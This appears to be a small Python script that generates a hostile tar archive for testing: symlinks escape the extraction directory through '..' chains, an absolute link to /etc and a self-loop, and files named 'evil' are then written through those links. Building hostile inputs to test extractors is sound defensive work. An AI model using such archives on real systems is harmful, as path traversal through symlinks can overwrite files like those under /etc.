"""hostile_links.py OUT: a tar of links that together lead out of where they are."""

import io
import sys
import tarfile

LINKS = [("here", "."), ("d/here", "here/here/../../../.."), ("up", "d/../../.."),
         ("etc", "/etc"), ("chain1", "chain2/.."), ("chain2", "../.."),
         ("d/e/f/up", "../../../../../.."), ("self", "self")]
with tarfile.open(sys.argv[1], "w") as archive:
    for name, target in LINKS:
        info = tarfile.TarInfo(name)
        info.type, info.linkname = tarfile.SYMTYPE, target
        archive.addfile(info)
    for name in ("etc/evil", "up/evil", "chain1/evil"):
        info = tarfile.TarInfo(name)
        info.size = 4
        archive.addfile(info, io.BytesIO(b"evil"))
